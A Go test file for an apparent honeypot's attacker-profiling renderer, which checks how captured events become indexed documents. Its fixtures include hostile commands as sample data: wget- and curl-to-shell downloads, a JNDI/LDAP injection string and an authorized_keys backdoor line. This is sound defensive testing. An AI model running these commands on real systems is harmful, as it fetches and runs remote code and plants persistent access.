package profile

import (
	"bytes"
	"crypto/sha256"
	"encoding/base64"
	"encoding/hex"
	"encoding/json"
	"fmt"
	"math/rand/v2"
	"net/netip"
	"os"
	"path/filepath"
	"slices"
	"sort"
	"strings"
	"testing"
	"time"

	"dossier/correlate/event"
	"dossier/correlate/law"
	"dossier/correlate/state"
	"dossier/profile/enrich"
	"dossier/profile/rules"
	"dossier/testbed/page"

	"github.com/maxmind/mmdbwriter"
	"github.com/maxmind/mmdbwriter/mmdbtype"
)

var (
	someone = netip.MustParseAddr("185.220.101.4")
	written = time.Date(2026, 1, 4, 12, 0, 0, 0, time.UTC)
	morning = event.FromTime(time.Date(2026, 1, 2, 8, 0, 0, 123456000, time.UTC))
)

const second = event.Time(1e6)

func headOf(addr netip.Addr) Head {
	return Head{Addr: addr, ID: addr.String(), Now: written, State: []byte("state")}
}

func networkHead() Head {
	network := netip.MustParsePrefix("2a00:1450:4001::/48")
	return Head{Addr: network.Addr(), Network: network, ID: network.String(), Now: written}
}

// everyEvent returns events that show everything a profile can hold.
func everyEvent() []*event.Event {
	var events []*event.Event
	add := func(after event.Time, decky, service, kind string, how event.Kind, evidence ...event.Evidence) *event.Event {
		ev := &event.Event{
			Time: morning + after*second, Addr: someone, Decky: decky, Service: service, Type: kind, Kind: how,
			Phase: event.Recon, Proof: event.ByConnection, Evidence: evidence,
		}
		if how == event.Interaction {
			ev.Phase = event.Exfil
		}
		events = append(events, ev)
		return ev
	}
	digest := func(b byte) (d [32]byte) { d[0] = b; return d }
	add(0, "decky-02", "ssh", "connect", event.Scan,
		event.Evidence{Kind: event.Fingerprint, A: "hassh", B: "ec7378c1a92f5a8dde7e8b7a1ddf33d1"},
		event.Evidence{Kind: event.Fingerprint, A: "ssh_client_banner", B: "SSH-2.0-Go"},
		event.Evidence{Kind: event.KexOrder, A: "curve25519-sha256,ecdh-sha2-nistp256"})
	for i := range 3 {
		add(60+event.Time(i), "decky-02", "ssh", "auth_attempt", event.Scan,
			event.Evidence{Kind: event.Login, A: "root", B: "plaintext", C: fmt.Sprintf("p\"\\ä]\u2028%d", i), Digest: digest(byte(i)), Outcome: event.Failure},
			event.Evidence{Kind: event.Session, A: "6fe3", N: 1500})
	}
	add(120, "decky-02", "ssh", "auth_attempt", event.Scan,
		event.Evidence{Kind: event.Login, A: "root", B: "plaintext", C: "toor", Digest: digest(9), Outcome: event.Success})
	add(180, "decky-02", "ssh", "command", event.Interaction,
		event.Evidence{Kind: event.Command, A: `cd /tmp; wget http://198.51.100.7/x.sh; chmod 777 x.sh; sh x.sh; rm -rf x.sh`})
	add(240, "decky-01", "http", "request", event.Scan,
		event.Evidence{Kind: event.Fingerprint, A: "http_useragent", B: "sqlmap/1.7", Payload: []event.Field{{Key: "category", Value: "scanner"}, {Key: "no good", Value: "x"}}},
		event.Evidence{Kind: event.Leak, A: "81.2.69.142", B: "X-Forwarded-For", C: "public"},
		event.Evidence{Kind: event.Leak, A: "127.0.0.1", B: "X-Real-IP", C: "loopback"},
		event.Evidence{Kind: event.Said, A: "/?q=${jndi:ldap://198.51.100.7/a}", B: event.SaidRequest, C: "GET"})
	add(300, "decky-03", "smtp", "rcpt_to", event.Interaction,
		event.Evidence{Kind: event.Recipient, A: "acme.com", Outcome: event.Success})
	add(360, "decky-01", "", "tcp_syn_fingerprint", event.Scan,
		event.Evidence{Kind: event.Stack, A: "linux", N: 52, M: 12, Payload: []event.Field{
			{Key: "window", Value: "29200"},
			{Key: "wscale", Value: "7"},
			{Key: "mss", Value: "1460"},
			{Key: "options_sig", Value: "M,S,T,N,W"},
			{Key: "has_sack", Value: "true"},
			{Key: "has_timestamps", Value: "false"},
			{Key: "tos", Value: "0"},
			{Key: "ipid_class", Value: "zero"},
			{Key: "isn_class", Value: "random"},
		}},
		event.Evidence{Kind: event.Retransmits, N: 3}).Role = event.Sniffer
	add(420, "decky-02", "ssh", "file_captured", event.Interaction,
		event.Evidence{Kind: event.Artifact, A: strings.Repeat("ab", 32), B: "http://198.51.100.7/x.sh", C: "file"},
		event.Evidence{Kind: event.Alert, A: "ET SCAN Potential SSH Scan", B: "Attempted Information Leak", N: 2}).Large = true
	for i, kind := range []string{"ja3", "ja3s", "ja4", "ja4s", "ja4h", "ja4_quic", "jarm"} {
		add(480+event.Time(60*i), "decky-01", "https", "tls_client_hello", event.Scan,
			event.Evidence{Kind: event.Fingerprint, A: kind, B: fmt.Sprintf("%s-%d", kind, i)})
	}
	add(960, "decky-01", "https", "tls_certificate", event.Scan,
		event.Evidence{Kind: event.Fingerprint, A: "tls_certificate", B: strings.Repeat("cd", 32)})
	return events
}

// beaconEvents returns events that come like a beacon, on one service and
// with a phase of exfiltration behind the one of reconnaissance.
func beaconEvents() []*event.Event {
	var events []*event.Event
	for i := range 400 {
		ev := &event.Event{Proof: event.ByConnection, Time: morning + event.Time(i)*200*second, Addr: someone, Decky: "decky-01", Service: "https", Type: "connect", Kind: event.Scan, Phase: event.Recon}
		if i == 399 {
			ev.Phase = event.Exfil
		}
		events = append(events, ev)
	}
	return events
}

func folded(r *Renderer, events []*event.Event) *state.Attacker {
	a, s := new(event.Arena), new(state.Attacker)
	for _, ev := range events {
		r.Annotate(a, ev)
	}
	s.Fold(a, "sensor-1", false, events)
	return s
}

func renderer(t testing.TB, o Options) *Renderer {
	t.Helper()
	r, err := New(o)
	if err != nil {
		t.Fatal(err)
	}
	return r
}

// located returns a renderer that knows a place and a name for everybody.
func located(t testing.TB, o Options) *Renderer {
	t.Helper()
	tree, err := mmdbwriter.New(mmdbwriter.Options{DatabaseType: "Test"})
	if err != nil {
		t.Fatal(err)
	}
	for _, network := range []string{"185.0.0.0/8", "2a00::/16"} {
		n := netip.MustParsePrefix(network)
		if err := tree.Insert(ipNet(n), mmdbtype.Map{
			"country":                        mmdbtype.Map{"iso_code": mmdbtype.String("DE")},
			"location":                       mmdbtype.Map{"latitude": mmdbtype.Float64(52.5), "longitude": mmdbtype.Float64(13.375)},
			"autonomous_system_number":       mmdbtype.Uint32(60729),
			"autonomous_system_organization": mmdbtype.String("Example"),
		}); err != nil {
			t.Fatal(err)
		}
	}
	path := filepath.Join(t.TempDir(), "test.mmdb")
	f, err := os.Create(path)
	if err != nil {
		t.Fatal(err)
	}
	if _, err := tree.WriteTo(f); err != nil {
		t.Fatal(err)
	}
	if err := f.Close(); err != nil {
		t.Fatal(err)
	}
	files, err := enrich.Open(enrich.Options{GeoIP: path, ASN: path})
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(files.Close)
	o.Files = files
	o.Names = enrich.NewNames(enrich.NamesOptions{Resolver: oneName{}})
	t.Cleanup(o.Names.Close)
	o.Names.Name(someone)
	for range 500 {
		if o.Names.Name(someone) != "" {
			break
		}
		time.Sleep(10 * time.Millisecond)
	}
	return renderer(t, o)
}

func decode(t testing.TB, doc []byte) map[string]any {
	t.Helper()
	if bytes.IndexByte(doc, '\n') >= 0 {
		t.Fatalf("not one line: %s", doc)
	}
	var m map[string]any
	if err := json.Unmarshal(doc, &m); err != nil {
		t.Fatalf("%v in\n%s", err, doc)
	}
	return m
}

// leaves returns the dotted names of a document's fields, down to those that
// the table says are objects.
func leaves(k Kind, doc map[string]any) []string {
	opaque := map[string]bool{}
	for _, f := range Fields(k) {
		opaque[f.Name] = f.Type == Object || f.Type == GeoPoint
	}
	var names []string
	var walk func(prefix string, m map[string]any)
	walk = func(prefix string, m map[string]any) {
		for name, v := range m {
			name = prefix + name
			if child, ok := v.(map[string]any); ok && !opaque[name] {
				walk(name+".", child)
				continue
			}
			names = append(names, name)
		}
	}
	walk("", doc)
	sort.Strings(names)
	return names
}

// at returns the value of a dotted name.
func at(doc map[string]any, name string) any {
	var v any = doc
	for part := range strings.SplitSeq(name, ".") {
		m, _ := v.(map[string]any)
		v = m[part]
	}
	return v
}

// everyDocument returns documents that together show every field.
// scanning is an attacker that looks, with the beat of a known tool.
func scanning() *state.Attacker {
	s := new(state.Attacker)
	s.Handshake, s.Events, s.Kinds = true, 9, [3]int64{event.Scan: 9}
	s.Times = times(moment(0), 48, 72, 48, 72, 48, 72, 48, 72)
	s.First, s.Last = moment(0), moment(480)
	s.Services.Add(law.Entry{Key: "https", Rank: uint8(event.Scan)}, large)
	return s
}

// sixtyFour is as long as a SHA-256.
var sixtyFour = strings.Repeat("ab", 32)

func everyDocument(t *testing.T) map[Kind][]map[string]any {
	r := located(t, Options{InternalNets: []netip.Prefix{netip.PrefixFrom(someone, 32)}, InternalHosts: map[netip.Addr]string{someone: "files-1"}})
	s := folded(r, everyEvent())
	listed := scanning()
	s.Techniques.Add(law.Entry{Key: "T1498.002", Count: 1, First: morning, Last: morning, Payload: "a sensor says so"}, large)
	s.Conclusions.Add(law.Entry{Key: "4crontab", Count: 1, First: morning, Last: morning, Payload: "crontab /tmp/c"}, large)
	var domains []*event.Event
	for i := range 5000 {
		domains = append(domains, &event.Event{Proof: event.ByConnection, Time: morning + event.Time(i), Service: "smtp", Evidence: []event.Evidence{{Kind: event.Recipient, A: fmt.Sprintf("d%d.example.com", i)}}})
	}
	guessed := &event.Event{Time: morning, Service: event.GuessedService, Kind: event.Scan, Proof: event.ByConnection, Naming: event.Guessed, Session: 1}
	network := new(state.Attacker)
	network.Fold(new(event.Arena), "sensor-1", true, append(beaconEvents(), domains...))
	network.Fold(new(event.Arena), "sensor-1", true, []*event.Event{
		{Time: morning, Decky: "decky-01", Service: "snmp", Port: 161, Transport: event.UDP, Kind: event.Interaction, Evidence: []event.Evidence{{Kind: event.Login, B: "snmp_community", C: "public"}, {Kind: event.Command, A: "1.3.6"}}},
		{Time: morning, Decky: "decky-01", Service: "ssh", Kind: event.Interaction, Proof: event.ByShell, Evidence: []event.Evidence{{Kind: event.Command, A: "id"}}},
		guessed,
	})
	flood := make([]*event.Event, 86400)
	for i := range flood {
		flood[i] = &event.Event{Proof: event.ByConnection, Time: morning + event.Time(i)*second/2, Addr: someone, Service: "ssh"}
	}
	target := new(state.Target)
	for _, ev := range domains[:100] {
		ev.Decky = "decky-" + ev.Evidence[0].A
		ev.Evidence[0].A = "mail.acme.co.uk"
	}
	target.Fold("sensor-1", "mail.acme.co.uk", domains[:100])
	hour := new(state.Activity)
	domains[0].Port, domains[0].Transport = 25, event.TCP
	hour.Fold(new(event.Arena), "sensor-1", append(append(everyEvent(), guessed), domains[:100]...))
	hour.Summary.Add(event.Time(s.Events), string(r.AppendSummary(nil, headOf(someone), s)))
	beat := &Heartbeat{
		Sensor: "sensor-1", Version: "1.0.0", Started: written, RecordsIn: 1,
		Reasons: []RefusalCount{{"unparsed", "bad_json", 1}}, DroppedPrograms: []ProgramCount{{"sshd", 2}}, Gateway: "172.17.0.1", GatewayEvents: 9, Ownerless: []DecoyCount{{"decky-02", 3}}, LastError: "no route to host\n", LastErrorAt: written,
	}
	var used []event.Evidence
	for i, kind := range event.IndicatorKinds() {
		used = append(used, event.Evidence{Kind: event.Indicator, A: kind, B: []string{
			"http://203.0.113.9/x", "evil.example.co.uk", "203.0.113.9", sixtyFour, sixtyFour[:40], sixtyFour[:32], "pay@me.example", "1BoatSLRHtKNngkdXEeobR76b53LETtpyT", "mdrfckr",
		}[i], C: "command"})
	}
	network.Fold(new(event.Arena), "sensor-1", true, []*event.Event{
		{Time: morning, Decky: "decky-01", Service: "ssh", Kind: event.Interaction, Proof: event.BySession, Evidence: append(used, event.Evidence{Kind: event.Forward, A: "1.2.3.4:25", B: "direct-tcpip"})},
	})
	thing := new(state.Indicator)
	for i := range 200 {
		thing.Fold("sensor-1", fmt.Sprint("198.51.100.", i), "command", &event.Event{Time: morning, Service: "ssh", Decky: "decky-01", Proof: event.ByConnection})
	}
	thing.Fold("sensor-1", "", "fetched", &event.Event{Time: morning, Role: event.Contact})
	thing.Fold("sensor-1", "", "command", &event.Event{Time: morning, Proof: event.ByShell})
	nh := networkHead()
	nh.State = []byte("state")
	target.Summary.Add(event.Time(s.Events), string(r.AppendSummary(nil, headOf(someone), s)))
	documents := map[Kind][]map[string]any{
		Attackers: {
			decode(t, r.AppendAttacker(nil, headOf(netip.MustParseAddr("71.6.135.131")), listed)),
			decode(t, r.AppendAttacker(nil, headOf(someone), s)),
			decode(t, r.AppendAttacker(nil, nh, network)),
			decode(t, r.AppendAttacker(nil, headOf(someone), folded(r, beaconEvents()))),
			decode(t, r.AppendAttacker(nil, headOf(someone), folded(r, flood))),
			decode(t, r.AppendAttacker(nil, headOf(someone), folded(r, typing("s1", []float64{0, 4, 9, 2, 14, 21},
				"sl -la", "ls -la", "/bin/busybox MIRAI", "echo mdrfckr >> ~/.ssh/authorized_keys", "curl http://teamtnt.red/x.sh | sh", "exit")))),
		},
		Targets: {
			decode(t, r.AppendTarget(nil, headOf(someone), "mail.acme.co.uk", target)),
			decode(t, r.AppendTarget(nil, nh, "mail.acme.co.uk", target)),
		},
		Indicators: {
			decode(t, r.AppendIndicator(nil, nh, "url", "http://user.evil.example.co.uk:8080/a/b.sh?c=d", thing)),
			decode(t, r.AppendIndicator(nil, nh, "ip", "203.0.113.9", thing)),
			decode(t, r.AppendIndicator(nil, nh, "domain", "pypi.org", thing)),
			decode(t, r.AppendIndicator(nil, nh, "sha256", sixtyFour, thing)),
			decode(t, r.AppendIndicator(nil, nh, "sha1", sixtyFour[:40], thing)),
			decode(t, r.AppendIndicator(nil, nh, "md5", sixtyFour[:32], thing)),
			decode(t, r.AppendIndicator(nil, nh, "email", "pay@me.example", thing)),
		},
		Activity: {
			decode(t, r.AppendActivity(nil, headOf(someone), morning.Hour(), hour)),
			decode(t, r.AppendActivity(nil, nh, morning.Hour(), hour)),
		},
		Sensors: {decode(t, AppendSensor(nil, written, beat))},
	}
	for _, crossed := range r.Transitions(nil, headOf(someone), s) {
		documents[Transitions] = append(documents[Transitions],
			decode(t, r.AppendTransition(nil, headOf(someone), crossed, s)),
			decode(t, r.AppendTransition(nil, nh, crossed, network)))
	}
	return documents
}

func TestTableHoldsExactlyWhatIsRendered(t *testing.T) {
	for kind, documents := range everyDocument(t) {
		rendered := map[string]bool{}
		for _, doc := range documents {
			for _, name := range leaves(kind, doc) {
				rendered[name] = true
			}
		}
		known := map[string]bool{}
		for _, f := range Fields(kind) {
			known[f.Name] = true
			if f.Type == OtherName {
				if rendered[f.Name] || !rendered[f.Path] {
					t.Errorf("%s: %s is another name of %s: it is never rendered, and that is", kind, f.Name, f.Path)
				}
				continue
			}
			if !rendered[f.Name] {
				t.Errorf("%s: %s is in the table but never rendered", kind, f.Name)
			}
			for _, doc := range documents {
				if v := at(doc, f.Name); v != nil {
					checkType(t, kind, f, v)
				}
			}
		}
		for name := range rendered {
			if !known[name] {
				t.Errorf("%s: %s is rendered but not in the table", kind, name)
			}
		}
	}
}

// checkType checks that Elasticsearch can index v as the table says.
func checkType(t *testing.T, k Kind, f Field, v any) {
	t.Helper()
	if _, one := v.(string); one && f.Name == "threat.indicator.ip" {
		f.List = false // a list only of a network
	}
	if list, ok := v.([]any); ok != f.List {
		t.Errorf("%s: %s holds an array: %v, want %v", k, f.Name, ok, f.List)
	} else if ok {
		for _, one := range list {
			checkType(t, k, Field{Name: f.Name, Type: f.Type, Members: f.Members}, one)
		}
		return
	}
	ok := false
	switch f.Type {
	case Keyword:
		_, ok = v.(string)
	case Long, Integer:
		n, is := v.(float64)
		ok = is && n == float64(int64(n))
	case Float:
		_, ok = v.(float64)
	case Boolean:
		_, ok = v.(bool)
	case Date:
		text, _ := v.(string)
		_, err := time.Parse(time.RFC3339Nano, text)
		ok = err == nil && len(text) == len("2026-01-02T03:04:05.678901Z")
	case IP:
		text, _ := v.(string)
		_, err := netip.ParseAddr(text)
		ok = err == nil
	case IPRange:
		text, _ := v.(string)
		_, err := netip.ParsePrefix(text)
		ok = err == nil
	case Binary:
		text, _ := v.(string)
		_, err := base64.StdEncoding.DecodeString(text)
		ok = err == nil
	case GeoPoint, Object:
		_, ok = v.(map[string]any)
	case Nested:
		var members map[string]any
		if members, ok = v.(map[string]any); !ok {
			break
		}
		known := map[string]bool{}
		for _, m := range f.Members {
			if v, there := members[m.Name]; there {
				checkType(t, k, Field{Name: f.Name + "." + m.Name, Type: m.Type}, v)
			}
			known[m.Name] = true
		}
		for name := range members {
			ok = ok && known[name]
		}
	}
	if !ok {
		t.Errorf("%s: %s can't be %#v", k, f.Name, v)
	}
}

func TestDocumentationIsFresh(t *testing.T) {
	page.Check(t, "../docs/profile.md", string(Markdown()), false, "go generate ./profile")
}

// randomEvents returns n events of one attacker, some of them at the same
// time, enough to make caps bite.
func randomEvents(r *rand.Rand, n int) []*event.Event {
	services := []string{"ssh", "telnet", "http", "smtp", "redis", ""}
	events := make([]*event.Event, n)
	for i := range events {
		ev := &event.Event{
			Time: morning + event.Time(r.IntN(n))*second/2, Addr: someone,
			Decky: fmt.Sprintf("decky-%d", r.IntN(300)), Service: services[r.IntN(len(services))],
			Type: "connect", Kind: event.Kind(r.IntN(3)), Phase: event.Phase(r.IntN(4)), Proof: event.Proof(r.IntN(4)), Large: r.IntN(50) == 0,
		}
		pick := func(n int) string { return fmt.Sprintf("v%d", r.IntN(n)) }
		for range r.IntN(3) {
			var e event.Evidence
			switch r.IntN(12) {
			case 0, 1, 2:
				e = event.Evidence{Kind: event.Command, A: "wget http://198.51.100.7/" + pick(400) + strings.Repeat("; uname -a", r.IntN(30))}
			case 3, 4, 5:
				e = event.Evidence{Kind: event.Login, A: pick(30), B: "plaintext", C: pick(400), Outcome: event.Outcome(r.IntN(3))}
				copy(e.Digest[:], e.C)
			case 6:
				e = event.Evidence{Kind: event.Fingerprint, A: []string{"ja3", "hassh", "http_useragent", "ssh_client_banner"}[r.IntN(4)], B: pick(300), Payload: []event.Field{{Key: "ja4", Value: pick(9)}}}
			case 7:
				e = event.Evidence{Kind: event.Artifact, A: strings.Repeat("0", 60) + fmt.Sprintf("%04d", r.IntN(200)), B: pick(50), C: "file"}
			case 8:
				e = event.Evidence{Kind: event.Leak, A: fmt.Sprintf("89.0.0.%d", r.IntN(256)), B: "X-Forwarded-For", C: "public"}
			case 9:
				e = event.Evidence{Kind: event.Stack, A: pick(4), N: int64(40 + r.IntN(30)), M: int64(r.IntN(20)), Payload: []event.Field{{Key: "window", Value: fmt.Sprint(r.IntN(9))}, {Key: "ipid_class", Value: pick(3)}}}
			case 10:
				e = event.Evidence{Kind: event.Alert, A: pick(90), B: "Misc Attack", N: int64(1 + r.IntN(3))}
			case 11:
				e = event.Evidence{Kind: event.Session, A: pick(400), N: int64(r.IntN(5000))}
			}
			ev.Evidence = append(ev.Evidence, e)
		}
		events[i] = ev
	}
	return events
}

// view returns a document without what depends on the write.
func view(t testing.TB, doc []byte) string {
	t.Helper()
	i := bytes.LastIndex(doc, []byte(`,"state":"`))
	if i < 0 {
		t.Fatalf("no state in %s", doc)
	}
	return string(doc[:i])
}

// However the events are cut and ordered, and however often the state is
// stored in between, the documents are the same to the byte.
func TestDocumentDoesNotShowTheOrder(t *testing.T) {
	r := renderer(t, Options{})
	for seed := range uint64(12) {
		random := rand.New(rand.NewPCG(seed, 5))
		events := randomEvents(random, []int{5, 60, 1500}[seed%3])
		a := new(event.Arena)
		for _, ev := range events {
			r.Annotate(a, ev)
		}
		var want string
		for try := range 4 {
			random.Shuffle(len(events), func(i, j int) { events[i], events[j] = events[j], events[i] })
			s := new(state.Attacker)
			for rest := events; len(rest) > 0; {
				n := min(len(rest), 1+random.IntN(len(rest)))
				s.Fold(a, fmt.Sprint("sensor-", n%2*0), false, rest[:n])
				rest = rest[n:]
				stored := s.Append(nil)
				s = new(state.Attacker)
				if err := s.Decode(stored); err != nil {
					t.Fatal(err)
				}
			}
			h := headOf(someone)
			h.State = s.Append(nil)
			got := view(t, r.AppendAttacker(nil, h, s))
			if try == 0 {
				want = got
			} else if got != want {
				t.Fatalf("seed %d, try %d:\n%s\n%s", seed, try, got, want)
			}
		}
	}
}

func TestAttacker(t *testing.T) {
	r := located(t, Options{})
	s := folded(r, everyEvent())
	doc := decode(t, r.AppendAttacker(nil, headOf(someone), s))
	for name, want := range map[string]string{
		"ip":                            `"185.220.101.4"`,
		"first_seen":                    `"2026-01-02T08:00:00.123456Z"`,
		"last_seen":                     `"2026-01-02T08:16:00.123456Z"`,
		"@timestamp":                    `"2026-01-02T08:16:00.123456Z"`,
		"updated_at":                    `"2026-01-04T12:00:00.000000Z"`,
		"event_count":                   `18`,
		"services":                      `["http","https","smtp","ssh"]`,
		"services_scanned":              `["http","https"]`,
		"services_interacted":           `["smtp","ssh"]`,
		"deckies":                       `["decky-02","decky-01","decky-03"]`,
		"traversal_path":                `"decky-02 → decky-01 → decky-03"`,
		"movement.edge":                 `["decky-01 → decky-03","decky-02 → decky-01","decky-03 → decky-01"]`,
		"credential.username":           `["root"]`,
		"credential.pair":               `["root:p\"\\ä]` + "\u2028" + `0","root:p\"\\ä]` + "\u2028" + `1","root:p\"\\ä]` + "\u2028" + `2","root:toor"]`,
		"login_attempts":                `4`,
		"login_successes":               `1`,
		"credential_count":              `4`,
		"bounty_count":                  `18`,
		"fingerprint.user_agent":        `["sqlmap/1.7"]`,
		"fingerprint.ssh_client":        `["SSH-2.0-Go"]`,
		"behavior.tools":                `["go_ssh","sqlmap"]`,
		"behavior.os_guess":             `"linux"`,
		"behavior.hop_distance":         `12`,
		"behavior.tcp_fingerprint":      `{"has_sack":true,"has_timestamps":false,"ipid_class":"zero","isn_class":"random","mss":1460,"options_sig":"M,S,T,N,W","tos":0,"window":29200,"wscale":7}`,
		"transitions":                   `{"hands_on":"2026-01-02T08:03:00.123456Z","login_success":"2026-01-02T08:02:00.123456Z","observed":"2026-01-02T08:00:00.123456Z","traversal":"2026-01-02T08:04:00.123456Z"}`,
		"country_code":                  `"DE"`,
		"asn":                           `60729`,
		"as_network":                    `"185.0.0.0/8"`,
		"as_cidr":                       `"185.0.0.0/8"`,
		"ptr_record":                    `"host.example"`,
		"spoofable":                     `false`,
		"sensors":                       `["sensor-1"]`,
		"related.ip":                    `["185.220.101.4","81.2.69.142"]`,
		"related.hosts":                 `["decky-01","decky-02","decky-03","host.example"]`,
		"threat.indicator.confidence":   `"High"`,
		"threat.indicator.geo.location": `{"lat":52.5,"lon":13.375}`,
		"threat.indicator.ip":           `"185.220.101.4"`,
		"event.kind":                    `"enrichment"`,
		"schema_version":                `2`,
	} {
		got, err := json.Marshal(at(doc, name))
		if err != nil {
			t.Fatal(err)
		}
		wanted, err := json.Marshal(json.RawMessage(want))
		if err != nil {
			t.Fatal(err)
		}
		if unescaped(t, got) != unescaped(t, wanted) {
			t.Errorf("%s is %s, want %s", name, got, want)
		}
	}
	if payload, _ := json.Marshal(at(doc, "fingerprints")); bytes.Contains(payload, []byte("no good")) {
		t.Errorf("a name that is none of ours became a field: %s", payload)
	}
}

func unescaped(t *testing.T, doc []byte) string {
	t.Helper()
	var v any
	if err := json.Unmarshal(doc, &v); err != nil {
		t.Fatal(err)
	}
	return fmt.Sprintf("%#v", v)
}

// The UUIDs are for ever: they must never change.
func TestUUID(t *testing.T) {
	r := renderer(t, Options{})
	for id, want := range map[string]string{
		"185.220.101.4":       "a7b54897-8812-5e35-b99b-6625c7ee7be6",
		"2a00:1450:4001::/48": "8f05aa11-13c4-5e97-b10c-cf38e518ca40",
	} {
		d := begin(nil)
		r.uuid(&d, id)
		if got := string(d.b); got != `{"uuid":"`+want+`"` {
			t.Errorf("%s is %s, want %s", id, got, want)
		}
	}
}

func TestNetwork(t *testing.T) {
	r := renderer(t, Options{})
	s := new(state.Attacker)
	for i, address := range []string{"2a00:1450:4001::1", "2a00:1450:4001::2", "2a00:1450:4001::1"} {
		s.Fold(new(event.Arena), "", true, []*event.Event{{Proof: event.ByConnection, Time: morning + event.Time(i), Addr: netip.MustParseAddr(address)}})
	}
	doc := decode(t, r.AppendAttacker(nil, networkHead(), s))
	if at(doc, "ip") != nil || at(doc, "network") != "2a00:1450:4001::/48" || at(doc, "threat.indicator.type") != "ipv6-addr" {
		t.Errorf("ip %v, network %v, type %v", at(doc, "ip"), at(doc, "network"), at(doc, "threat.indicator.type"))
	}
	if got := fmt.Sprint(at(doc, "threat.indicator.ip")); got != "[2a00:1450:4001::1 2a00:1450:4001::2]" {
		t.Errorf("addresses %s", got)
	}
}

func TestSecrets(t *testing.T) {
	for mode, c := range map[Secrets]struct{ secret, digest bool }{Plain: {true, true}, Digest: {false, true}, Hidden: {false, false}} {
		r := renderer(t, Options{Secrets: mode})
		doc := string(r.AppendAttacker(nil, headOf(someone), folded(r, everyEvent())))
		digest := "09" + strings.Repeat("00", 31)
		if got := strings.Contains(doc, "toor"); got != c.secret {
			t.Errorf("mode %d: the secret is shown: %v", mode, got)
		}
		if got := strings.Contains(doc, digest); got != c.digest {
			t.Errorf("mode %d: its digest is shown: %v", mode, got)
		}
		if !strings.Contains(doc, `"username":["root"]`) || !strings.Contains(doc, `"credential_count":4`) {
			t.Errorf("mode %d: what is not secret is missing", mode)
		}
	}
}

// hostile returns the state of an attacker who fills every list with texts of
// about size characters: those that are longest when rendered, or those that
// can't be packed.
func hostile(size int, escaped bool) *state.Attacker {
	text := func(i, limit int) string {
		n := min(size, limit)
		b := fmt.Appendf(nil, "%d", i)
		seed := rand.New(rand.NewPCG(uint64(i), uint64(limit)))
		for len(b) < n {
			c := byte(0x21 + seed.IntN(94))
			if escaped {
				c = `"\`[seed.IntN(2)]
			}
			b = append(b, c)
		}
		return string(b[:max(n, 1)])
	}
	a, s := new(event.Arena), new(state.Attacker)
	for i := range 700 {
		sum := sha256.Sum256(fmt.Append(nil, i))
		digest := hex.EncodeToString(sum[:])
		ev := &event.Event{
			Time: event.Time(1_000_000_000_000_000 + int64(i)*997_000_000_123), Addr: netip.AddrFrom16([16]byte{0x2a, 0, 0x14, 0x50, 0x40, 1, 14: byte(i >> 8), 15: byte(i)}),
			Decky: text(i, event.MaxName), Service: text(i, event.MaxService), Type: text(i, event.MaxService), Kind: event.Interaction, Proof: event.ByConnection, Port: uint16(1 + i), Transport: event.TCP,
			Evidence: []event.Evidence{
				{Kind: event.Command, A: text(i, event.MaxCommand)},
				{Kind: event.Login, A: text(i, event.MaxValue), B: "plaintext", C: text(i, event.MaxValue), Digest: sum, Outcome: event.Success},
				{Kind: event.Fingerprint, A: "ja3", B: text(i, event.MaxValue), Payload: []event.Field{{Key: "ja4", Value: text(i, event.MaxValue)}}},
				{Kind: event.Fingerprint, A: "hassh", B: text(i, event.MaxValue)},
				{Kind: event.Artifact, A: digest, B: text(i, event.MaxValue), C: "file"},
				{Kind: event.Leak, A: fmt.Sprintf("89.1.%d.%d", i/250, i%250), B: text(i, event.MaxService), C: "public"},
				{Kind: event.Session, A: digest},
				{Kind: event.Recipient, A: digest + ".example.org"},
				{Kind: event.Stack, A: text(i, event.MaxService), N: int64(i), M: int64(i), Payload: []event.Field{{Key: "options_sig", Value: text(i, 900)}}},
				{Kind: event.KexOrder, A: text(i, event.MaxValue)},
				{Kind: event.Tool, A: text(i, event.MaxService), B: text(i, event.MaxService)},
				{Kind: event.Technique, A: techniqueIDs[i%len(techniqueIDs)], B: text(i, event.MaxService)},
				{Kind: event.Conclusion, A: fmt.Sprint("rule-of-a-long-name-", i), B: text(i, event.MaxCommand), N: int64(i % 5), M: int64(i % 2)},
				{Kind: event.Alert, A: text(i, event.MaxValue), B: text(i, event.MaxService), N: 1},
			},
		}
		claimed, told := *ev, *ev
		claimed.Proof, told.Proof = event.Claimed, event.ByShell
		s.Fold(a, text(i, event.MaxName), true, []*event.Event{ev, &claimed, &told})
		if i%250 == 249 {
			if err := s.Decode(s.Append(nil)); err != nil {
				panic(err)
			}
		}
	}
	return s
}

// techniqueIDs are the techniques that the built-in rules know.
var techniqueIDs = func() []string {
	set, err := rules.New(rules.Options{})
	if err != nil {
		panic(err)
	}
	var ids []string
	for _, r := range set.Rules() {
		if r.Technique != "" {
			ids = append(ids, r.Technique)
		}
	}
	slices.Sort(ids)
	return slices.Compact(ids)
}()

// Whatever an attacker fills a profile with, the document stays within its
// budget, with as many chunk ids as there may be and a state that doesn't
// pack, and says what it leaves out.
func TestBudget(t *testing.T) {
	r := located(t, Options{})
	r.o.Names = nil // a name that comes later changes the view
	worst, worstState := 0, 0
	for _, size := range []int{1, 8, 12, 20, 32, 60, 100, 200, 255, 500, 1024, 4096} {
		for _, escaped := range []bool{false, true} {
			name := fmt.Sprintf("texts of %d, escaped %v", size, escaped)
			s := hostile(size, escaped)
			for _, h := range []Head{headOf(someone), networkHead()} {
				h.State = make([]byte, maxEnvelope+len(s.Append(nil)))
				doc := r.AppendAttacker(nil, h, s)
				worst, worstState = max(worst, len(doc)), max(worstState, len(h.State))
				if len(doc) > documentBudget {
					t.Errorf("%s: %d bytes, allowed are %d: state %d, view %d", name, len(doc), documentBudget, len(h.State), len(view(t, doc)))
				}
				m := decode(t, doc)
				commands, _ := json.Marshal(m["commands"])
				lines, _ := json.Marshal(m["command"])
				if n := len(commands) + len(lines); n > commandBudget {
					t.Errorf("%s: commands take %d bytes, allowed are %d", name, n, commandBudget)
				}
				checkTruncated(t, name, m, s)
				// The newest command is always there.
				list, _ := m["commands"].([]any)
				if len(list) == 0 {
					t.Errorf("%s: no command is left", name)
					continue
				}
				last := list[len(list)-1].(map[string]any)["timestamp"]
				if want := string(appendTime(nil, s.Last)); last != want {
					t.Errorf("%s: the newest command shown is of %v, want %s", name, last, want)
				}
				// What the stored state takes must not show in the view.
				h.State = []byte("packed well")
				if other := r.AppendAttacker(nil, h, s); view(t, other) != view(t, doc) {
					t.Errorf("%s: the view depends on the size of the stored state", name)
				}
			}
		}
	}
	t.Logf("the largest document takes %d bytes of %d, the largest state %d", worst, documentBudget, worstState)
}

